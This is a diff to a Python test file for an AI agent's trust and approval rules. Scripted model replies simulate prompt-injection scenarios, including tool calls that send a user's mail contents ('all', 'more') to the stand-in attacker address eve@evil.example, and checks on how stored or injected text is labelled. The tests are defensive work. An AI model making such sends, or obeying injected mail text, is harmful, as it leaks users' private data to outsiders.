@@ -14,6 +14,7 @@ from rightcall.testing import ScriptedModel, call, reply
 from rightcall.trust.rules import Rule, Rules
 from trust.kit import EVIL, Office
 
+EVE = "eve@evil.example"
 PROMPT = "Read my mail and answer bob@firm.example."
 THEFT = call("send", to=["eve@evil.example"], body="all")
 AGAIN = call("send", to=["eve@evil.example"], body="more")
@@ -76,7 +77,7 @@ async def test_a_yes_for_the_run_holds_after_it_was_paused_and_carried_elsewhere
     result = RunResult.from_json((await agent.run(PROMPT)).to_json())
     result = await agent.resume(result, {result.pending[0].call_id: Allow("target")})
     assert len(office.done) == 2
-    assert result.state.approvals == (Approval(tool="send", targets=("eve@evil.example",)),)
+    assert result.state.approvals == (Approval(tool="send", targets=(EVE,), arguments={"to": (EVE,)}),)
     result = RunResult.from_json(result.to_json())
     result = await agent.resume(result, {result.pending[0].call_id: False})
     assert (result.text, len(office.done)) == ("done", 2)
@@ -370,7 +371,8 @@ async def test_the_results_message_keeps_whose_words_are_whose():
     office = Office()
     result = await agent_of(office, call("inbox"), call("channels")).run(PROMPT)
     inbox, channels = (m.results[0] for m in result.transcript if isinstance(m, Results))
-    assert inbox.vouched == ("sender", "subject", "body", "bob@firm.example")
+    own = ("sender", "desk", "subject", "body", "stranger@else.example", "bob@firm.example")
+    assert (inbox.vouched, inbox.fields) == (own, ("", "", "", "", "sender", "desk"))
     assert channels.names == ("general", f"Fun {EVIL}")
     assert said("x").author == "user"
 
@@ -415,16 +417,16 @@ async def test_an_agent_that_a_plain_function_runs_is_held_to_its_callers_knowle
 
 async def test_what_a_subagent_stored_does_not_come_back_to_its_caller_as_a_systems_word():
     office = Office()
-    plant = call("send", to=["bob@firm.example"], body="GB11 0000 1111 2222")
+    plant = call("send", to=["bob@firm.example"], body="zorro zed")
     helper = helper_of(office, plant, trust=Rules(otherwise="deny"))
     script = [
         reply(call("inbox")),
         reply(call("helper", task="store it")),
-        reply(call("contacts", name="GB11 0000 1111 2222")),
-        reply(call("send", to=["GB11 0000 1111 2222"], body="")),
+        reply(call("contacts", name="zorro zed")),
+        reply(call("send", to=["zorro zed"], body="")),
         "done",
     ]
     await rc.Agent(ScriptedModel(script), [*office.tools, helper], trust=Rules(otherwise="deny")).run(
         PROMPT
     )
-    assert office.done == ["send bob@firm.example: GB11 0000 1111 2222"]
+    assert office.done == ["send bob@firm.example: zorro zed"]
